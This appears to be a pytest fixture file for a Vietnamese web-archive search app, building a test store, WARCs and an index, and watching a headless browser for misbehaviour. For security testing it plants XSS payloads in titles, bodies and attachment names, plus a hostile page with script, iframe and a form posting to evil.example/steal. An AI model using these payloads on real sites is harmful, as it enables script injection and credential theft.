"""Shared fixtures of the web-app tests: a small real archive (store, Whoosh index, WARCs).

``web_archive`` builds, once per session, a data directory holding an archive
store with articles of three portals (dates over several years, categories,
an article with two versions, archived and unarchived attachments, and an
article whose title, body and attachment names carry XSS payloads), real WARC
files written with warcio (each article's captured page, its image and
stylesheet, a PDF attachment), and the Whoosh index built by
``indexer.search.writer.update_index``.  ``client`` is an in-process TestClient;
``live_server`` serves the same app with uvicorn on a free 127.0.0.1 port.
"""

from __future__ import annotations

import socket
import threading
import time
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field
from datetime import UTC, datetime, timedelta
from pathlib import Path
from urllib.parse import urlsplit

import pytest
from capture_helpers import PNG_1PX, CaptureWarc
from fastapi.testclient import TestClient
from support import CHROMIUM, CHROMIUM_ARGS

from crawler.items import Article, Attachment
from indexer.store.archive import ArchiveStore
from indexer.store.rows import WarcRef
from indexer.text import content_hash, normalize

XSS_TITLE = 'Thông báo <script>alert("xss-title")</script><img src=x onerror=alert("xss-img")>'
XSS_BODY = (
    "Nội dung <script>alert('xss-body')</script> cần chú ý.\n\n"
    "Liên kết javascript:alert('xss-link') và <svg onload=alert('xss-svg')>.\n\n"
    "\"><img src=x onerror=alert('xss-attr')> hết."
)
XSS_ATTACHMENT = '<img src=x onerror=alert("xss-att")>javascript:alert(1).pdf'

PORTALS = {
    "daknong_krongno": ("Tỉnh Đắk Nông", "Huyện Krông Nô", "krongno.sample"),
    "quangbinh_tuyenhoa": ("Tỉnh Quảng Bình", "Huyện Tuyên Hóa", "tuyenhoa.sample"),
    "hanoi_longbien": ("Thành phố Hà Nội", "Quận Long Biên", "longbien.sample"),
}
CATEGORIES = ("Tin tức", "Thông báo", "Văn bản")
SENTENCES = (
    "Ủy ban nhân dân huyện tổ chức hội nghị tổng kết công tác năm.",
    "Các xã triển khai kế hoạch phòng chống thiên tai và tìm kiếm cứu nạn.",
    "Hội nông dân tập huấn kỹ thuật trồng cà phê cho bà con.",
    "Trường học trên địa bàn chuẩn bị khai giảng năm học mới.",
    "Lãnh đạo huyện thăm hỏi gia đình chính sách nhân dịp lễ.",
    "Đoàn kiểm tra làm việc về công tác cải cách hành chính.",
)
PDF_BYTES = b"%PDF-1.4\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n"


@dataclass
class WebArchive:
    """What the fixture built: the data dir and the ids tests look for."""

    data_dir: Path
    ids: dict[str, str] = field(default_factory=dict)  # role -> article id
    total: int = 0
    uyban_total: int = 0  # articles whose title or body holds "ủy ban"


def captured_page(title: str, body: str, host: str, *, hostile: bool = False) -> bytes:
    """The HTML a portal served for an article (with live-site assets and, if hostile, XSS)."""
    extra = ""
    if hostile:
        extra = """
<script>alert('replay-inline')</script>
<script src="https://evil.example/x.js"></script>
<img src="x" onerror="alert('replay-onerror')">
<a href="javascript:alert('replay-js-link')" id="jslink">bấm vào đây</a>
<iframe src="https://evil.example/frame"></iframe>
<meta http-equiv="refresh" content="0;url=https://evil.example/">
<form action="https://evil.example/steal"><input name="x"><button>Gửi</button></form>
<div style="background:url(https://evil.example/bg.png)">nền</div>
<svg><a xlink:href="javascript:alert('svg')"><text>svg</text></a></svg>
"""
    paragraphs = "".join(f"<p>{p}</p>" for p in body.split("\n\n"))
    html = f"""<!DOCTYPE html>
<html lang="vi"><head><meta charset="utf-8"><title>{title}</title>
<link rel="stylesheet" href="/static/site.css">
<link rel="stylesheet" href="https://cdn.example/live.css">
<link rel="icon" href="/favicon.ico">
</head><body>
<div class="banner"><img id="logo" src="/static/logo.png" alt="logo"><img id="live-img" src="https://live.example/photo.jpg" alt="ảnh"></div>
<h1 class="title">{title}</h1>
<div class="content">{paragraphs}</div>
<a href="http://{host}/tin-khac" id="other-link">Các tin khác</a>
{extra}
</body></html>"""
    return html.encode("utf-8")


def _article_text(i: int) -> str:
    picks = [SENTENCES[(i + k) % len(SENTENCES)] for k in range(3)]
    return "\n\n".join([*picks, f"Bài số {i} của kho lưu trữ thử nghiệm."])


def build_archive(data_dir: Path) -> WebArchive:
    """Fill ``data_dir`` with the test archive (store, WARCs) and index it."""
    from indexer.search.writer import update_index

    store = ArchiveStore(f"sqlite:///{data_dir / 'archive.sqlite'}")
    result = WebArchive(data_dir=data_dir)
    base_time = datetime(2024, 6, 1, 3, 0, tzinfo=UTC)
    warcs: dict[str, CaptureWarc] = {}
    css = b".title{color:#7a1f18;border-bottom:3px solid #c33}body{font-family:serif}"
    static: dict[str, tuple[WarcRef, WarcRef]] = {}
    for portal, (_province, _district, host) in PORTALS.items():
        warc = CaptureWarc(data_dir / "warc" / portal / "job-1.warc.gz")
        warcs[portal] = warc
        static[portal] = (
            warc.add(f"http://{host}/static/site.css", css, "text/css"),
            warc.add(f"http://{host}/static/logo.png", PNG_1PX, "image/png"),
        )
    job_ids = {portal: store.start_job(portal) for portal in PORTALS}

    def add(
        i: int, portal: str, title: str, body: str, published: str, category: str, **kw: object
    ) -> str:
        province, district, host = PORTALS[portal]
        url = f"http://{host}/tin-tuc/bai-{i}.html"
        html = captured_page(title, body, host, hostile=bool(kw.get("hostile")))
        ref = warcs[portal].add(url, html, "text/html; charset=utf-8")
        attachments = list(kw.get("attachments") or [])
        article = Article(
            url=url,
            title=normalize(title),
            portal=portal,
            canonical_url=url,
            published=published,
            category=category,
            credit=kw.get("credit"),  # type: ignore[arg-type]
            body_text=normalize(body, multiline=True),
            attachments=attachments,
            content_hash=content_hash(body),
        )
        _, article_id = store.upsert_article(
            article,
            province=province,
            district=district,
            warc=ref,
            job_id=job_ids[portal],
            seen_at=base_time + timedelta(minutes=i),
        )
        return article_id

    count = 0
    portals = list(PORTALS)
    for i in range(36):
        portal = portals[i % 3]
        year = 2021 + (i % 4)
        month = 1 + (i * 5) % 12
        day = 1 + (i * 7) % 27
        title = (
            f"Ủy ban nhân dân huyện họp phiên thường kỳ lần {i}"
            if i % 3 != 2
            else f"Hội nông dân tổ chức tập huấn đợt {i}"
        )
        body = _article_text(i)
        art_id = add(
            i,
            portal,
            title,
            body,
            f"{year}-{month:02d}-{day:02d}",
            CATEGORIES[i % 3],
            credit="Theo Văn phòng HĐND-UBND huyện" if i % 4 == 0 else None,
        )
        count += 1
        result.ids.setdefault(f"portal:{portal}", art_id)
        if i == 0:
            result.ids["plain"] = art_id
    # an article with a PDF attachment (archived) and one that could not be downloaded
    pdf_url = "http://tuyenhoa.sample/uploads/Quyet%20dinh%2012.pdf"
    doc_id = add(
        100,
        "quangbinh_tuyenhoa",
        "Quyết định về việc điều chỉnh quy hoạch sử dụng đất",
        "Ban hành kèm theo quyết định điều chỉnh quy hoạch sử dụng đất năm 2023.",
        "2023-03-15T09:30:00+07:00",
        "Văn bản",
        attachments=[
            Attachment(url=pdf_url, name="Quyết định số 12/QĐ-UBND về quy hoạch.pdf"),
            Attachment(url="http://tuyenhoa.sample/uploads/phu-luc.doc", name="Phụ lục kèm theo"),
        ],
    )
    pdf_ref = warcs["quangbinh_tuyenhoa"].add(pdf_url, PDF_BYTES, "application/pdf")
    store.record_attachment_capture(
        doc_id,
        pdf_url,
        status="fetched",
        warc=pdf_ref,
        content_type="application/pdf",
        size=len(PDF_BYTES),
    )
    store.record_attachment_capture(
        doc_id, "http://tuyenhoa.sample/uploads/phu-luc.doc", status="too_large"
    )
    result.ids["attachments"] = doc_id
    count += 1
    # an article that changed between two crawls (two versions)
    v1 = "Lịch tiếp công dân tháng 5 của Chủ tịch huyện.\n\nThời gian: sáng thứ hai hằng tuần."
    v2 = "Lịch tiếp công dân tháng 5 của Chủ tịch huyện.\n\nThời gian: sáng thứ ba hằng tuần.\n\nĐịa điểm: trụ sở tiếp dân."
    versioned_id = add(
        101, "hanoi_longbien", "Lịch tiếp công dân tháng 5", v1, "2024-05-02", "Thông báo"
    )
    province, district, host = PORTALS["hanoi_longbien"]
    url = f"http://{host}/tin-tuc/bai-101.html"
    ref2 = warcs["hanoi_longbien"].add(
        url, captured_page("Lịch tiếp công dân tháng 5", v2, host), "text/html; charset=utf-8"
    )
    store.upsert_article(
        Article(
            url=url,
            title="Lịch tiếp công dân tháng 5",
            portal="hanoi_longbien",
            canonical_url=url,
            published="2024-05-02",
            category="Thông báo",
            body_text=normalize(v2, multiline=True),
            content_hash=content_hash(v2),
        ),
        province=province,
        district=district,
        warc=ref2,
        seen_at=base_time + timedelta(days=30),
    )
    result.ids["versioned"] = versioned_id
    count += 1
    # the strict-accents pair: the same letters with and without diacritics, and words
    # that fold like "tuyen"/"hoa" without being "Tuyên Hóa" (tuyển, xã hội hóa, Cộng hòa)
    result.ids["accented"] = add(
        103,
        "quangbinh_tuyenhoa",
        "Huyện Tuyên Hóa hoàn thành giao quân năm 2024",
        "Huyện Tuyên Hóa tổ chức lễ giao nhận quân. Công tác tuyển quân đạt chỉ tiêu.\n\n"
        "Các xã đẩy mạnh xã hội hóa công tác hậu phương quân đội, vì nước Cộng hòa.",
        "2024-02-20",
        "Tin tức",
    )
    result.ids["unaccented"] = add(
        104,
        "quangbinh_tuyenhoa",
        "Tin van tat: Tuyen Hoa don Bang cong nhan",
        "Huyen Tuyen Hoa don Bang cong nhan dat chuan (ban tin go khong dau).",
        "2012-05-04",
        "Tin tức",
    )
    count += 2
    # the hostile article: XSS in title, body, attachment name and captured page
    xss_url = "http://krongno.sample/uploads/xss.pdf"
    xss_id = add(
        102,
        "daknong_krongno",
        XSS_TITLE,
        XSS_BODY,
        "2022-08-08",
        "Thông báo",
        hostile=True,
        credit='<script>alert("xss-credit")</script>',
        attachments=[
            Attachment(url=xss_url, name=XSS_ATTACHMENT),
            Attachment(url="javascript:alert('xss-att-url')", name="javascript:alert(7)"),
        ],
    )
    xss_ref = warcs["daknong_krongno"].add(
        xss_url, b"<script>alert('download')</script>", "text/html"
    )
    store.record_attachment_capture(
        xss_id, xss_url, status="fetched", warc=xss_ref, content_type="text/html", size=34
    )
    result.ids["xss"] = xss_id
    count += 1
    for warc in warcs.values():
        warc.close()
    for job_id in job_ids.values():
        store.finish_job(job_id, "finished", pages=13)
    result.total = count
    result.uyban_total = sum(1 for i in range(36) if i % 3 != 2) + sum(
        1 for i in range(36) if i % 3 == 2 and "Ủy ban" in _article_text(i)
    )
    update_index(store, data_dir / "index", procs=1)
    store.engine.dispose()
    return result


@pytest.fixture(scope="session")
def web_archive(tmp_path_factory: pytest.TempPathFactory) -> WebArchive:
    """The test archive, built once per session."""
    return build_archive(tmp_path_factory.mktemp("webdata"))


@pytest.fixture(scope="session")
def app(web_archive: WebArchive):  # type: ignore[no-untyped-def]
    """The web app over the test archive."""
    from search_app.app import create_app

    return create_app(web_archive.data_dir)


@pytest.fixture()
def client(app) -> Iterator[TestClient]:  # type: ignore[no-untyped-def]
    """An in-process HTTP client (server errors come back as responses, not exceptions)."""
    with TestClient(app, raise_server_exceptions=False) as test_client:
        yield test_client


def _free_port() -> int:
    with socket.socket() as sock:
        sock.bind(("127.0.0.1", 0))
        return sock.getsockname()[1]


@contextmanager
def serve(app, make_config=None) -> Iterator[str]:  # type: ignore[no-untyped-def]
    """Serve ``app`` with uvicorn in a thread on a free 127.0.0.1 port; yields its base URL.

    ``make_config(app, host, port)`` builds the uvicorn configuration (default:
    uvicorn's defaults), e.g. ``vnarchive.commands.serve.server_config``.
    """
    import uvicorn

    port = _free_port()
    if make_config is None:
        config = uvicorn.Config(app, host="127.0.0.1", port=port, log_level="warning")
    else:
        config = make_config(app, "127.0.0.1", port)
    server = uvicorn.Server(config)
    thread = threading.Thread(target=server.run, daemon=True)
    thread.start()
    deadline = time.monotonic() + 20
    while not server.started:
        if time.monotonic() > deadline or not thread.is_alive():
            raise RuntimeError("the web app did not start")
        time.sleep(0.05)
    try:
        yield f"http://127.0.0.1:{port}"
    finally:
        server.should_exit = True
        thread.join(timeout=10)


@pytest.fixture(scope="session")
def serve_app():  # type: ignore[no-untyped-def]
    """The :func:`serve` context manager, for tests that serve an app of their own."""
    return serve


@pytest.fixture(scope="session")
def live_server(app) -> Iterator[str]:  # type: ignore[no-untyped-def]
    """The test archive's app served by uvicorn on a free 127.0.0.1 port."""
    with serve(app) as url:
        yield url


# -- real browser (Debian's Chromium through Playwright) -----------------------------


class Watch:
    """What a page did that it should not: dialogs, console errors, page errors, outside requests."""

    def __init__(self) -> None:
        self.dialogs: list[str] = []
        self.console_errors: list[str] = []
        self.page_errors: list[str] = []
        self.outside: list[str] = []

    def assert_clean(self, where: str) -> None:
        """Fail if anything ran, complained or tried to leave the machine."""
        assert not self.dialogs, f"{where}: a dialog opened: {self.dialogs}"
        assert not self.page_errors, f"{where}: script errors: {self.page_errors}"
        assert not self.console_errors, f"{where}: console errors: {self.console_errors}"
        assert not self.outside, f"{where}: requests left the machine: {self.outside}"


@pytest.fixture(scope="session")
def browser() -> Iterator[object]:
    """Debian's Chromium, headless (never a Playwright-downloaded browser)."""
    if not CHROMIUM.exists():
        pytest.skip(
            "Debian's Chromium is not installed (/usr/bin/chromium): apt-get install chromium"
        )
    from playwright.sync_api import sync_playwright

    with sync_playwright() as playwright:
        instance = playwright.chromium.launch(
            executable_path=str(CHROMIUM), args=CHROMIUM_ARGS, headless=True
        )
        yield instance
        instance.close()


@pytest.fixture()
def watched_page(browser):  # type: ignore[no-untyped-def]
    """Factory: a fresh page (own cookies) for a server, misbehaviour in ``page.watch``.

    Requests to any host but the server are recorded and aborted.
    """
    contexts = []

    def make(base_url: str):  # type: ignore[no-untyped-def]
        context = browser.new_context(viewport={"width": 1200, "height": 900}, locale="vi-VN")
        contexts.append(context)
        watch = Watch()
        local = urlsplit(base_url).netloc

        def route(route_obj, request):  # type: ignore[no-untyped-def]
            parts = urlsplit(request.url)
            if parts.scheme in ("data", "blob", "about") or parts.netloc == local:
                route_obj.continue_()
            else:
                watch.outside.append(request.url)
                route_obj.abort()

        context.route("**/*", route)
        page = context.new_page()
        page.on("dialog", lambda dialog: (watch.dialogs.append(dialog.message), dialog.dismiss()))
        page.on(
            "console",
            lambda msg: watch.console_errors.append(msg.text) if msg.type == "error" else None,
        )
        page.on("pageerror", lambda exc: watch.page_errors.append(str(exc)))
        page.watch = watch  # type: ignore[attr-defined]
        return page

    yield make
    for context in contexts:
        context.close()
